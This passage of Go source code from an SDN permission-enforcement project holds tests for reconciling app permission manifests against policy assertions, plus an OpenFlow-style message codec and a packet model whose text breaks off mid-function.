// trip through the permission language).
func setToManifest(s *core.Set) *permlang.Manifest {
	return permlang.MustParse(s.String())
}

func TestConformingAppIsClean(t *testing.T) {
	policy := policylang.MustParse(`
LET templatePerm = {
	PERM read_statistics LIMITING PORT_LEVEL
}
ASSERT APP monitor <= templatePerm
`)
	manifest := permlang.MustParse(`PERM read_statistics LIMITING SWITCH_LEVEL`)
	res, err := New().Reconcile("monitor", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Clean {
		t.Errorf("conforming app flagged: %v", res.Violations)
	}
	if eq, _ := res.Reconciled.Equal(res.Requested); !eq {
		t.Error("clean reconciliation must not alter the set")
	}
}

func TestUnresolvedMacroReported(t *testing.T) {
	manifest := permlang.MustParse(`PERM network_access LIMITING AdminRange`)
	res, err := New().Reconcile("app", manifest, policylang.MustParse(``))
	if err != nil {
		t.Fatal(err)
	}
	if res.Clean || res.Violations[0].Kind != ViolationUnresolvedMacro {
		t.Errorf("expected unresolved-macro violation, got %v", res.Violations)
	}
	// The permission stays but denies at runtime.
	if !res.Reconciled.Has(core.TokenHostNetwork) {
		t.Error("permission should remain pending binding")
	}
	call := &core.Call{App: "app", Token: core.TokenHostNetwork,
		HostIP: of.IPv4FromOctets(10, 0, 0, 1), HasHostIP: true}
	if res.Reconciled.Allows(call) {
		t.Error("unresolved stub must deny")
	}
}

func TestUnknownReferences(t *testing.T) {
	manifest := permlang.MustParse(`PERM flow_event`)
	policy := policylang.MustParse(`ASSERT APP ghost <= { PERM flow_event }`)
	res, err := New().Reconcile("app", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if res.Clean || res.Violations[0].Kind != ViolationUnknownReference {
		t.Errorf("expected unknown-reference, got %v", res.Violations)
	}

	policy = policylang.MustParse(`ASSERT mystery <= { PERM flow_event }`)
	res, err = New().Reconcile("app", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if res.Clean {
		t.Error("unbound variable must be flagged")
	}
}

func TestRegisteredAppReference(t *testing.T) {
	e := New()
	e.RegisterApp("firewall", core.NewSetOf(
		core.Permission{Token: core.TokenInsertFlow},
		core.Permission{Token: core.TokenDeleteFlow},
	))
	// Policy: this app may hold at most what the firewall holds.
	policy := policylang.MustParse(`ASSERT APP newapp <= APP firewall`)
	manifest := permlang.MustParse("PERM insert_flow\nPERM host_network")
	res, err := e.Reconcile("newapp", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if res.Clean {
		t.Error("host_network exceeds the firewall's envelope")
	}
	if res.Reconciled.Has(core.TokenHostNetwork) {
		t.Error("repair must drop host_network")
	}
	if !res.Reconciled.Has(core.TokenInsertFlow) {
		t.Error("insert_flow is inside the envelope")
	}
}

func TestMeetJoinInPolicy(t *testing.T) {
	policy := policylang.MustParse(`
LET a = { PERM read_statistics LIMITING PORT_LEVEL }
LET b = { PERM read_statistics LIMITING FLOW_LEVEL PERM flow_event }
ASSERT APP app <= a JOIN b
`)
	manifest := permlang.MustParse(`PERM read_statistics LIMITING FLOW_LEVEL
PERM flow_event`)
	res, err := New().Reconcile("app", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if !res.Clean {
		t.Errorf("join boundary should admit the manifest: %v", res.Violations)
	}

	policy = policylang.MustParse(`
LET a = { PERM read_statistics LIMITING PORT_LEVEL PERM flow_event }
LET b = { PERM read_statistics LIMITING FLOW_LEVEL }
ASSERT APP app <= a MEET b
`)
	res, err = New().Reconcile("app", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	if res.Clean {
		t.Error("meet boundary drops flow_event, so the manifest violates")
	}
	if res.Reconciled.Has(core.TokenFlowEvent) {
		t.Error("repair must drop flow_event")
	}
}

func TestEqualityAndStrictComparisons(t *testing.T) {
	manifest := permlang.MustParse(`PERM flow_event`)
	tests := []struct {
		policy string
		clean  bool
	}{
		{`ASSERT APP app = { PERM flow_event }`, true},
		{`ASSERT APP app = { PERM pkt_in_event }`, false},
		{`ASSERT APP app < { PERM flow_event PERM pkt_in_event }`, true},
		{`ASSERT APP app < { PERM flow_event }`, false}, // equal, not strict
		{`ASSERT { PERM flow_event PERM pkt_in_event } > APP app`, true},
		{`ASSERT NOT APP app = { PERM pkt_in_event }`, true},
		{`ASSERT APP app <= { PERM flow_event } AND APP app <= { PERM flow_event PERM error_event }`, true},
		{`ASSERT APP app <= { PERM pkt_in_event } OR APP app <= { PERM flow_event }`, true},
	}
	for _, tt := range tests {
		t.Run(tt.policy, func(t *testing.T) {
			res, err := New().Reconcile("app", manifest, policylang.MustParse(tt.policy))
			if err != nil {
				t.Fatal(err)
			}
			if res.Clean != tt.clean {
				t.Errorf("clean = %v, want %v (violations %v)", res.Clean, tt.clean, res.Violations)
			}
		})
	}
}

func TestCircularBindingDetected(t *testing.T) {
	policy := policylang.MustParse(`
LET a = b
LET b = a
ASSERT APP app <= a
`)
	res, err := New().Reconcile("app", permlang.MustParse("PERM flow_event"), policy)
	if err != nil {
		t.Fatal(err)
	}
	if res.Clean || res.Violations[0].Kind != ViolationUnknownReference {
		t.Errorf("circular binding must be flagged: %v", res.Violations)
	}
}

func TestSequentialConstraintInteraction(t *testing.T) {
	// The boundary repair runs first and already removes insert_flow, so
	// the later mutual exclusion holds without further truncation.
	policy := policylang.MustParse(`
ASSERT APP app <= { PERM network_access PERM read_statistics }
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`)
	manifest := permlang.MustParse(`
PERM network_access
PERM read_statistics
PERM insert_flow
`)
	res, err := New().Reconcile("app", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	kinds := make(map[ViolationKind]int)
	for _, v := range res.Violations {
		kinds[v.Kind]++
	}
	if kinds[ViolationBoundary] != 1 || kinds[ViolationMutualExclusion] != 0 {
		t.Errorf("violations = %v", res.Violations)
	}
	if res.Reconciled.Has(core.TokenInsertFlow) {
		t.Error("insert_flow gone after boundary repair")
	}
	if !res.Reconciled.Has(core.TokenHostNetwork) {
		t.Error("network_access must survive")
	}
}

func TestViolationString(t *testing.T) {
	v := Violation{Kind: ViolationMutualExclusion, Constraint: "ASSERT EITHER a OR b",
		Detail: "both held", Repair: "revoked b"}
	s := v.String()
	for _, want := range []string{"mutual-exclusion", "both held", "revoked b"} {
		if !strings.Contains(s, want) {
			t.Errorf("String() = %q missing %q", s, want)
		}
	}
}

func TestNilPolicyAndManifest(t *testing.T) {
	res, err := New().Reconcile("app", permlang.MustParse("PERM flow_event"), nil)
	if err != nil || !res.Clean {
		t.Errorf("nil policy should be a clean no-op: (%v, %v)", res, err)
	}
	if _, err := New().Reconcile("app", nil, nil); err == nil {
		t.Error("nil manifest must error")
	}
}
