package reconcile

import (
	"testing"

	"sdnshield/internal/core"
	"sdnshield/internal/permlang"
	"sdnshield/internal/policylang"
)

// repairEnv reconciles a manifest against a policy and returns the result
// plus the boundary set named bindingName, resolved independently so the
// tests can use Algorithm 1 (Set.Includes) as the repair oracle.
func repairEnv(t *testing.T, manifestSrc, policySrc, boundarySrc string) (*Result, *core.Set) {
	t.Helper()
	manifest := permlang.MustParse(manifestSrc)
	policy := policylang.MustParse(policySrc)
	res, err := New().Reconcile("monitor", manifest, policy)
	if err != nil {
		t.Fatal(err)
	}
	boundary := permlang.MustParse(boundarySrc).Set()
	return res, boundary
}

// assertWithinBoundary checks repaired <= boundary with Algorithm 1.
func assertWithinBoundary(t *testing.T, boundary, repaired *core.Set) {
	t.Helper()
	ok, err := boundary.Includes(repaired)
	if err != nil {
		t.Fatalf("inclusion oracle failed: %v", err)
	}
	if !ok {
		t.Fatalf("repaired set exceeds the boundary:\nrepaired:\n%s\nboundary:\n%s",
			repaired, boundary)
	}
}

const mixedBoundarySrc = `
PERM read_statistics LIMITING PORT_LEVEL
PERM insert_flow LIMITING IP_DST 10.1.0.0 MASK 255.255.0.0
PERM visible_topology
`

// TestRepairUnderMixedAndOr: a violated boundary conjoined with a
// satisfied side condition still repairs by MEET, and the repaired set
// passes the Algorithm 1 inclusion oracle.
func TestRepairUnderMixedAndOr(t *testing.T) {
	res, boundary := repairEnv(t, `
PERM read_statistics
PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0
PERM visible_topology
`, `
LET Bound = {`+mixedBoundarySrc+`}
LET Wide = { PERM read_statistics PERM insert_flow PERM visible_topology PERM pkt_in_event }
# The OR side condition holds (Bound <= Wide), the AND'ed boundary fails:
# exactly one repairable conjunct, so the MEET repair applies.
ASSERT (monitor <= Bound) AND ((Bound <= Wide) OR (monitor <= Wide))
`, mixedBoundarySrc)

	if res.Clean {
		t.Fatal("over-broad manifest must violate")
	}
	found := false
	for _, v := range res.Violations {
		if v.Kind == ViolationBoundary && v.Repair != "" {
			found = true
		}
	}
	if !found {
		t.Fatalf("no repaired boundary violation: %v", res.Violations)
	}
	assertWithinBoundary(t, boundary, res.Reconciled)
	// Repair only narrows: requested includes repaired.
	ok, err := res.Requested.Includes(res.Reconciled)
	if err != nil || !ok {
		t.Fatalf("repair widened the request: (%v, %v)", ok, err)
	}
	// And it kept what was already inside the boundary.
	if !res.Reconciled.Has(core.TokenVisibleTopology) {
		t.Error("in-boundary grant lost during repair")
	}
}

// TestOrOfBoundariesCleanWhenEitherHolds: a disjunction of boundaries is
// satisfied by the second disjunct, so nothing repairs.
func TestOrOfBoundariesCleanWhenEitherHolds(t *testing.T) {
	res, _ := repairEnv(t, `
PERM read_statistics LIMITING PORT_LEVEL
`, `
LET Tight = { PERM visible_topology }
LET Loose = { PERM read_statistics }
ASSERT (monitor <= Tight) OR (monitor <= Loose)
`, "PERM read_statistics")
	if !res.Clean {
		t.Fatalf("violations = %v", res.Violations)
	}
	eq, err := res.Reconciled.Equal(res.Requested)
	if err != nil || !eq {
		t.Fatalf("clean reconciliation must not rewrite the set: (%v, %v)", eq, err)
	}
}

// TestOrOfBoundariesUnrepairable: when neither disjunct holds there is no
// canonical boundary to MEET with — the violation is reported but the
// working set is left alone for the administrator.
func TestOrOfBoundariesUnrepairable(t *testing.T) {
	res, _ := repairEnv(t, `
PERM process_runtime
`, `
LET A = { PERM visible_topology }
LET B = { PERM read_statistics }
ASSERT (monitor <= A) OR (monitor <= B)
`, "PERM visible_topology")
	if res.Clean {
		t.Fatal("violation expected")
	}
	if len(res.Violations) != 1 || res.Violations[0].Kind != ViolationBoundary {
		t.Fatalf("violations = %v", res.Violations)
	}
	if res.Violations[0].Repair != "" {
		t.Errorf("OR violation offered a repair: %q", res.Violations[0].Repair)
	}
	eq, err := res.Reconciled.Equal(res.Requested)
	if err != nil || !eq {
		t.Fatalf("unrepairable violation must not mutate the set: (%v, %v)", eq, err)
	}
}

// TestNestedNotAssertions: double negation preserves the boundary's truth
// value; single negation inverts it. NOT discards the repair direction
// (the engine cannot know what "not exceeding" should MEET with), so the
// violation reports unrepaired.
func TestNestedNotAssertions(t *testing.T) {
	// NOT (NOT (monitor <= Bound)) with a conforming app: clean.
	res, _ := repairEnv(t, `
PERM read_statistics LIMITING PORT_LEVEL
`, `
LET Bound = { PERM read_statistics }
ASSERT NOT (NOT (monitor <= Bound))
`, "PERM read_statistics")
	if !res.Clean {
		t.Fatalf("double negation of a satisfied boundary must be clean: %v", res.Violations)
	}

	// NOT (NOT (monitor <= Bound)) with an over-broad app: violated,
	// and the NOT wrapper suppresses the MEET repair.
	res, _ = repairEnv(t, `
PERM read_statistics
PERM process_runtime
`, `
LET Bound = { PERM read_statistics }
ASSERT NOT (NOT (monitor <= Bound))
`, "PERM read_statistics")
	if res.Clean {
		t.Fatal("double-negated violated boundary must still violate")
	}
	if res.Violations[0].Repair != "" {
		t.Errorf("NOT-wrapped violation offered a repair: %q", res.Violations[0].Repair)
	}
	eq, err := res.Reconciled.Equal(res.Requested)
	if err != nil || !eq {
		t.Fatalf("NOT-wrapped violation must not mutate the set: (%v, %v)", eq, err)
	}

	// Single NOT: the app must NOT fit inside Forbidden; holding extra
	// permissions satisfies it.
	res, _ = repairEnv(t, `
PERM read_statistics
PERM visible_topology
`, `
LET Forbidden = { PERM read_statistics }
ASSERT NOT (monitor <= Forbidden)
`, "PERM read_statistics")
	if !res.Clean {
		t.Fatalf("negated non-inclusion must be clean: %v", res.Violations)
	}
}

// TestAndOfTwoFailedBoundaries: with both conjuncts violated there is no
// single canonical repair, so the engine reports without rewriting.
func TestAndOfTwoFailedBoundaries(t *testing.T) {
	res, _ := repairEnv(t, `
PERM process_runtime
PERM file_system
`, `
LET A = { PERM read_statistics }
LET B = { PERM visible_topology }
ASSERT (monitor <= A) AND (monitor <= B)
`, "PERM read_statistics")
	if res.Clean {
		t.Fatal("violation expected")
	}
	if res.Violations[0].Repair != "" {
		t.Errorf("double failure offered a repair: %q", res.Violations[0].Repair)
	}
	eq, err := res.Reconciled.Equal(res.Requested)
	if err != nil || !eq {
		t.Fatalf("set mutated without a repair: (%v, %v)", eq, err)
	}
}

// TestRepairFixpoint: feeding the repaired set back through the same
// policy reconciles clean — the MEET really landed inside the boundary.
func TestRepairFixpoint(t *testing.T) {
	policySrc := `
LET Bound = {` + mixedBoundarySrc + `}
ASSERT (monitor <= Bound) AND ((Bound <= Bound) OR (monitor <= Bound))
`
	res, boundary := repairEnv(t, `
PERM read_statistics
PERM insert_flow LIMITING IP_DST 10.0.0.0 MASK 255.0.0.0
PERM visible_topology
PERM pkt_in_event
`, policySrc, mixedBoundarySrc)
	if res.Clean {
		t.Fatal("violation expected")
	}
	assertWithinBoundary(t, boundary, res.Reconciled)

	res2, err := New().Reconcile("monitor", setToManifest(res.Reconciled), policylang.MustParse(policySrc))
	if err != nil {
		t.Fatal(err)
	}
	if !res2.Clean {
		t.Errorf("repaired set still violates on the second pass: %v", res2.Violations)
	}
}
