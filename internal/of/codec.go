package of

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
)

// Wire framing: every message is encoded as
//
//	version(1) type(1) length(4, big endian, total frame) xid(4) body...
//
// The body layout per message type is defined by the encode/decode pairs
// below. The codec exists so the simulator can run over a real TCP socket
// (as the paper's CBench setup does) and not only over in-memory channels.

// ErrTruncated reports a frame shorter than its declared length.
var ErrTruncated = errors.New("of: truncated frame")

// ErrBadVersion reports a frame with an unsupported protocol version.
var ErrBadVersion = errors.New("of: unsupported protocol version")

const headerLen = 10

// MaxFrameLen bounds a frame so a corrupted length field cannot force an
// unbounded allocation.
const MaxFrameLen = 1 << 20

type encoder struct {
	buf []byte
}

func (e *encoder) u8(v uint8)   { e.buf = append(e.buf, v) }
func (e *encoder) u16(v uint16) { e.buf = binary.BigEndian.AppendUint16(e.buf, v) }
func (e *encoder) u32(v uint32) { e.buf = binary.BigEndian.AppendUint32(e.buf, v) }
func (e *encoder) u64(v uint64) { e.buf = binary.BigEndian.AppendUint64(e.buf, v) }

func (e *encoder) bytes(b []byte) {
	e.u32(uint32(len(b)))
	e.buf = append(e.buf, b...)
}

func (e *encoder) str(s string) { e.bytes([]byte(s)) }

func (e *encoder) bool(v bool) {
	if v {
		e.u8(1)
	} else {
		e.u8(0)
	}
}

func (e *encoder) match(m *Match) {
	if m == nil {
		e.u8(0)
		return
	}
	fields := m.ConstrainedFields()
	e.u8(uint8(len(fields)))
	for _, f := range fields {
		v, mask := m.Get(f)
		e.u8(uint8(f))
		e.u64(v)
		e.u64(mask)
	}
}

func (e *encoder) actions(actions []Action) {
	e.u16(uint16(len(actions)))
	for _, a := range actions {
		e.u8(uint8(a.Type))
		e.u16(a.Port)
		e.u8(uint8(a.Field))
		e.u64(a.Value)
	}
}

func (e *encoder) packet(p *Packet) {
	if p == nil {
		e.u8(0)
		return
	}
	e.u8(1)
	e.buf = append(e.buf, p.EthSrc[:]...)
	e.buf = append(e.buf, p.EthDst[:]...)
	e.u16(p.EthType)
	e.u16(p.VLAN)
	e.u8(p.VLANPri)
	e.u32(uint32(p.IPSrc))
	e.u32(uint32(p.IPDst))
	e.u8(p.IPProto)
	e.u8(p.IPTOS)
	e.u16(p.TPSrc)
	e.u16(p.TPDst)
	e.u8(p.TCPFlags)
	e.u32(p.TCPSeq)
	e.bytes(p.Payload)
}

type decoder struct {
	buf []byte
	off int
	err error
}

func (d *decoder) fail() {
	if d.err == nil {
		d.err = ErrTruncated
	}
}

func (d *decoder) take(n int) []byte {
	if d.err != nil || d.off+n > len(d.buf) {
		d.fail()
		return nil
	}
	b := d.buf[d.off : d.off+n]
	d.off += n
	return b
}

func (d *decoder) u8() uint8 {
	b := d.take(1)
	if b == nil {
		return 0
	}
	return b[0]
}

func (d *decoder) u16() uint16 {
	b := d.take(2)
	if b == nil {
		return 0
	}
	return binary.BigEndian.Uint16(b)
}

func (d *decoder) u32() uint32 {
	b := d.take(4)
	if b == nil {
		return 0
	}
	return binary.BigEndian.Uint32(b)
}

func (d *decoder) u64() uint64 {
	b := d.take(8)
	if b == nil {
		return 0
	}
	return binary.BigEndian.Uint64(b)
}

func (d *decoder) bytes() []byte {
	n := d.u32()
	if d.err != nil || int(n) > len(d.buf)-d.off {
		d.fail()
		return nil
	}
	if n == 0 {
		return nil
	}
	out := make([]byte, n)
	copy(out, d.take(int(n)))
	return out
}

func (d *decoder) str() string { return string(d.bytes()) }

func (d *decoder) bool() bool { return d.u8() != 0 }

func (d *decoder) match() *Match {
	n := d.u8()
	if n == 0 {
		return NewMatch()
	}
	m := NewMatch()
	for i := 0; i < int(n); i++ {
		f := Field(d.u8())
		v := d.u64()
		mask := d.u64()
		if d.err != nil {
			return m
		}
		m.SetMasked(f, v, mask)
	}
	return m
}

func (d *decoder) actions() []Action {
	n := d.u16()
	if d.err != nil || int(n) > len(d.buf)-d.off {
		d.fail()
		return nil
	}
	out := make([]Action, 0, n)
	for i := 0; i < int(n); i++ {
		a := Action{
			Type:  ActionType(d.u8()),
			Port:  d.u16(),
			Field: Field(d.u8()),
			Value: d.u64(),
		}
		if d.err != nil {
			return out
		}
		out = append(out, a)
	}
	return out
}

func (d *decoder) packet() *Packet {
	if d.u8() == 0 {
		return nil
	}
	p := &Packet{}
	copy(p.EthSrc[:], d.take(6))
	copy(p.EthDst[:], d.take(6))
	p.EthType = d.u16()
	p.VLAN = d.u16()
	p.VLANPri = d.u8()
	p.IPSrc = IPv4(d.u32())
	p.IPDst = IPv4(d.u32())
	p.IPProto = d.u8()
	p.IPTOS = d.u8()
	p.TPSrc = d.u16()
	p.TPDst = d.u16()
	p.TCPFlags = d.u8()
	p.TCPSeq = d.u32()
	p.Payload = d.bytes()
	return p
}

// Encode serializes a message into a self-describing frame.
func Encode(msg Message) ([]byte, error) {
	e := &encoder{buf: make([]byte, 0, 64)}
	e.u8(Version)
	e.u8(uint8(msg.Type()))
	e.u32(0) // length placeholder
	e.u32(msg.XID())

	switch m := msg.(type) {
	case *Hello, *FeaturesRequest, *BarrierRequest, *BarrierReply:
		// header only
	case *EchoRequest:
		e.bytes(m.Data)
	case *EchoReply:
		e.bytes(m.Data)
	case *Error:
		e.u16(uint16(m.Code))
		e.str(m.Message)
	case *FeaturesReply:
		e.u64(uint64(m.DPID))
		e.u16(m.NumPorts)
		e.u16(uint16(len(m.Ports)))
		for _, p := range m.Ports {
			e.u16(p.Port)
			e.str(p.Name)
			e.bool(p.Up)
		}
	case *PacketIn:
		e.u64(uint64(m.DPID))
		e.u16(m.InPort)
		e.u8(uint8(m.Reason))
		e.u32(m.BufferID)
		e.packet(m.Packet)
	case *PacketOut:
		e.u64(uint64(m.DPID))
		e.u16(m.InPort)
		e.u32(m.BufferID)
		e.actions(m.Actions)
		e.packet(m.Packet)
	case *FlowMod:
		e.u64(uint64(m.DPID))
		e.u8(uint8(m.Command))
		e.match(m.Match)
		e.u16(m.Priority)
		e.u16(m.IdleTimeout)
		e.u16(m.HardTimeout)
		e.u64(m.Cookie)
		e.actions(m.Actions)
	case *FlowRemoved:
		e.u64(uint64(m.DPID))
		e.match(m.Match)
		e.u16(m.Priority)
		e.u64(m.Cookie)
		e.u8(uint8(m.Reason))
		e.u64(m.Packets)
		e.u64(m.Bytes)
	case *PortStatus:
		e.u64(uint64(m.DPID))
		e.u8(uint8(m.Reason))
		e.u16(m.Port.Port)
		e.str(m.Port.Name)
		e.bool(m.Port.Up)
	case *StatsRequest:
		e.u64(uint64(m.DPID))
		e.u8(uint8(m.Kind))
		e.match(m.Match)
		e.u16(m.Port)
	case *StatsReply:
		e.u64(uint64(m.DPID))
		e.u8(uint8(m.Kind))
		e.u16(uint16(len(m.Flows)))
		for _, f := range m.Flows {
			e.match(f.Match)
			e.u16(f.Priority)
			e.u64(f.Cookie)
			e.u64(f.Packets)
			e.u64(f.Bytes)
		}
		e.u16(uint16(len(m.Ports)))
		for _, p := range m.Ports {
			e.u16(p.Port)
			e.u64(p.RxPackets)
			e.u64(p.TxPackets)
			e.u64(p.RxBytes)
			e.u64(p.TxBytes)
			e.u64(p.Drops)
		}
		e.u32(m.Switch.FlowCount)
		e.u64(m.Switch.PacketsTotal)
		e.u64(m.Switch.BytesTotal)
	default:
		return nil, fmt.Errorf("of: encode: unsupported message type %T", msg)
	}

	binary.BigEndian.PutUint32(e.buf[2:6], uint32(len(e.buf)))
	return e.buf, nil
}

// Decode parses one complete frame produced by Encode.
func Decode(frame []byte) (Message, error) {
	if len(frame) < headerLen {
		return nil, ErrTruncated
	}
	if frame[0] != Version {
		return nil, fmt.Errorf("%w: %d", ErrBadVersion, frame[0])
	}
	msgType := MsgType(frame[1])
	length := binary.BigEndian.Uint32(frame[2:6])
	if int(length) != len(frame) {
		return nil, fmt.Errorf("%w: declared %d, got %d", ErrTruncated, length, len(frame))
	}
	hdr := Header{Xid: binary.BigEndian.Uint32(frame[6:10])}
	d := &decoder{buf: frame, off: headerLen}

	var msg Message
	switch msgType {
	case MsgHello:
		msg = &Hello{Header: hdr}
	case MsgEchoRequest:
		msg = &EchoRequest{Header: hdr, Data: d.bytes()}
	case MsgEchoReply:
		msg = &EchoReply{Header: hdr, Data: d.bytes()}
	case MsgError:
		msg = &Error{Header: hdr, Code: ErrorCode(d.u16()), Message: d.str()}
	case MsgFeaturesRequest:
		msg = &FeaturesRequest{Header: hdr}
	case MsgFeaturesReply:
		r := &FeaturesReply{Header: hdr, DPID: DPID(d.u64()), NumPorts: d.u16()}
		n := d.u16()
		for i := 0; i < int(n) && d.err == nil; i++ {
			r.Ports = append(r.Ports, PortInfo{Port: d.u16(), Name: d.str(), Up: d.bool()})
		}
		msg = r
	case MsgPacketIn:
		msg = &PacketIn{
			Header: hdr, DPID: DPID(d.u64()), InPort: d.u16(),
			Reason: PacketInReason(d.u8()), BufferID: d.u32(), Packet: d.packet(),
		}
	case MsgPacketOut:
		msg = &PacketOut{
			Header: hdr, DPID: DPID(d.u64()), InPort: d.u16(),
			BufferID: d.u32(), Actions: d.actions(), Packet: d.packet(),
		}
	case MsgFlowMod:
		msg = &FlowMod{
			Header: hdr, DPID: DPID(d.u64()), Command: FlowModCommand(d.u8()),
			Match: d.match(), Priority: d.u16(), IdleTimeout: d.u16(),
			HardTimeout: d.u16(), Cookie: d.u64(), Actions: d.actions(),
		}
	case MsgFlowRemoved:
		msg = &FlowRemoved{
			Header: hdr, DPID: DPID(d.u64()), Match: d.match(), Priority: d.u16(),
			Cookie: d.u64(), Reason: FlowRemovedReason(d.u8()),
			Packets: d.u64(), Bytes: d.u64(),
		}
	case MsgPortStatus:
		msg = &PortStatus{
			Header: hdr, DPID: DPID(d.u64()), Reason: PortStatusReason(d.u8()),
			Port: PortInfo{Port: d.u16(), Name: d.str(), Up: d.bool()},
		}
	case MsgStatsRequest:
		msg = &StatsRequest{
			Header: hdr, DPID: DPID(d.u64()), Kind: StatsType(d.u8()),
			Match: d.match(), Port: d.u16(),
		}
	case MsgStatsReply:
		r := &StatsReply{Header: hdr, DPID: DPID(d.u64()), Kind: StatsType(d.u8())}
		nf := d.u16()
		for i := 0; i < int(nf) && d.err == nil; i++ {
			r.Flows = append(r.Flows, FlowStatsEntry{
				Match: d.match(), Priority: d.u16(), Cookie: d.u64(),
				Packets: d.u64(), Bytes: d.u64(),
			})
		}
		np := d.u16()
		for i := 0; i < int(np) && d.err == nil; i++ {
			r.Ports = append(r.Ports, PortStatsEntry{
				Port: d.u16(), RxPackets: d.u64(), TxPackets: d.u64(),
				RxBytes: d.u64(), TxBytes: d.u64(), Drops: d.u64(),
			})
		}
		r.Switch = SwitchStats{FlowCount: d.u32(), PacketsTotal: d.u64(), BytesTotal: d.u64()}
		msg = r
	case MsgBarrierRequest:
		msg = &BarrierRequest{Header: hdr}
	case MsgBarrierReply:
		msg = &BarrierReply{Header: hdr}
	default:
		return nil, fmt.Errorf("of: decode: unknown message type %d", uint8(msgType))
	}
	if d.err != nil {
		return nil, fmt.Errorf("decode %s: %w", msgType, d.err)
	}
	return msg, nil
}

// WriteMessage encodes msg and writes the frame to w.
func WriteMessage(w io.Writer, msg Message) error {
	frame, err := Encode(msg)
	if err != nil {
		return err
	}
	_, err = w.Write(frame)
	return err
}

// ReadMessage reads and decodes exactly one frame from r.
func ReadMessage(r io.Reader) (Message, error) {
	var hdr [headerLen]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, err
	}
	length := binary.BigEndian.Uint32(hdr[2:6])
	if length < headerLen || length > MaxFrameLen {
		return nil, fmt.Errorf("of: bad frame length %d", length)
	}
	frame := make([]byte, length)
	copy(frame, hdr[:])
	if _, err := io.ReadFull(r, frame[headerLen:]); err != nil {
		return nil, err
	}
	return Decode(frame)
}
