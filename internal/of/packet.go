package of

import "fmt"

// Packet is the simulator's view of a data-plane frame: the parsed header
// fields the 12-tuple match inspects plus an opaque payload. Keeping the
// header pre-parsed (instead of raw bytes) keeps the simulated fast path
// cheap while remaining faithful to what an OpenFlow table can observe.
type Packet struct {
	EthSrc  MAC
	EthDst  MAC
	EthType uint16
	VLAN    uint16
	VLANPri uint8

	IPSrc   IPv4
	IPDst   IPv4
	IPProto uint8
	IPTOS   uint8

	TPSrc    uint16
	TPDst    uint16
	TCPFlags uint8
	TCPSeq   uint32

	Payload []byte
}

// Clone returns a deep copy of the packet, including its payload.
func (p *Packet) Clone() *Packet {
	c := *p
	if p.Payload != nil {
		c.Payload = make([]byte, len(p.Payload))
		copy(c.Payload, p.Payload)
	}
	return &c
}

// FieldValue extracts the value of a match field from the packet. inPort
// supplies the ingress port, which is metadata rather than header content.
func (p *Packet) FieldValue(f Field, inPort uint16) uint64 {
	switch f {
	case FieldInPort:
		return uint64(inPort)
	case FieldEthSrc:
		return p.EthSrc.Uint64()
	case FieldEthDst:
		return p.EthDst.Uint64()
	case FieldEthType:
		return uint64(p.EthType)
	case FieldVLAN:
		return uint64(p.VLAN)
	case FieldVLANPriority:
		return uint64(p.VLANPri)
	case FieldIPSrc:
		return uint64(p.IPSrc)
	case FieldIPDst:
		return uint64(p.IPDst)
	case FieldIPProto:
		return uint64(p.IPProto)
	case FieldIPTOS:
		return uint64(p.IPTOS)
	case FieldTPSrc:
		return uint64(p.TPSrc)
	case FieldTPDst:
		return uint64(p.TPDst)
	default:
		return 0
	}
}

// SetFieldValue overwrites one header field, used by the MODIFY flow
// action (and by the dynamic-flow-tunneling attack that rewrites headers).
func (p *Packet) SetFieldValue(f Field, v uint64) {
	switch f {
	case FieldEthSrc:
		p.EthSrc = MACFromUint64(v)
	case FieldEthDst:
		p.EthDst = MACFromUint64(v)
	case FieldEthType:
		p.EthType = uint16(v)
	case FieldVLAN:
		p.VLAN = uint16(v)
	case FieldVLANPriority:
		p.VLANPri = uint8(v)
	case FieldIPSrc:
		p.IPSrc = IPv4(v)
	case FieldIPDst:
		p.IPDst = IPv4(v)
	case FieldIPProto:
		p.IPProto = uint8(v)
	case FieldIPTOS:
		p.IPTOS = uint8(v)
	case FieldTPSrc:
		p.TPSrc = uint16(v)
	case FieldTPDst:
		p.TPDst = uint16(v)
	}
}

// MatchFromPacket builds the exact-match predicate describing the packet,
// the way an L2/L3 reactive app typically derives a flow from a packet-in.
func MatchFromPacket(p *Packet, inPort uint16) *Match {
	m := NewMatch().
		Set(FieldInPort, uint64(inPort)).
		Set(FieldEthSrc, p.EthSrc.Uint64()).
		Set(FieldEthDst, p.EthDst.Uint64()).
		Set(FieldEthType, uint64(p.EthType))
	if p.EthType == EthTypeIPv4 {
		m.Set(FieldIPSrc, uint64(p.IPSrc)).
			Set(FieldIPDst, uint64(p.IPDst)).
			Set(FieldIPProto, uint64(p.IPProto))
		if p.IPProto == IPProtoTCP || p.IPProto == IPProtoUDP {
			m.Set(FieldTPSrc, uint64(p.TPSrc)).Set(FieldTPDst, uint64(p.TPDst))
		}
	}
	return m
}

// NewARPRequest builds an ARP who-has broadcast frame, the trigger packet
// of the L2-learning-switch evaluation scenario.
func NewARPRequest(src MAC, srcIP, dstIP IPv4) *Packet {
	return &Packet{
		EthSrc:  src,
		EthDst:  MAC{0xff, 0xff, 0xff, 0xff, 0xff, 0xff},
		EthType: EthTypeARP,
		IPSrc:   srcIP,
		IPDst:   dstIP,
	}
}

// NewTCPPacket builds a TCP segment with the given endpoints and flags.
func NewTCPPacket(src, dst MAC, srcIP, dstIP IPv4, srcPort, dstPort uint16, flags uint8) *Packet {
	return &Packet{
		EthSrc:   src,
		EthDst:   dst,
		EthType:  EthTypeIPv4,
		IPSrc:    srcIP,
		IPDst:    dstIP,
		IPProto:  IPProtoTCP,
		TPSrc:    srcPort,
		TPDst:    dstPort,
		TCPFlags: flags,
	}
}

// String renders a short human-readable description of the packet.
func (p *Packet) String() string {
	switch p.EthType {
	case EthTypeARP:
		return fmt.Sprintf("arp %s>%s who-has %s tell %s", p.EthSrc, p.EthDst, p.IPDst, p.IPSrc)
	case EthTypeIPv4:
		return fmt.Sprintf("ip %s:%d>%s:%d proto=%d flags=%02x",
